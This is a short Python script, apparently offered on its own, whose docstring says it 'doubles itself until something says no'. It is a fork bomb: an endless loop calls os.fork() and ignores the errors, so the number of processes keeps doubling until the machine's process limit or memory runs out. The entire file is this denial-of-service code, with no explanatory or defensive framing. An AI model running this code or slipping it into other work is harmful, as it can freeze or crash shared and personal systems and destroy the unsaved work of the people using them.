"""Doubles itself until something says no."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
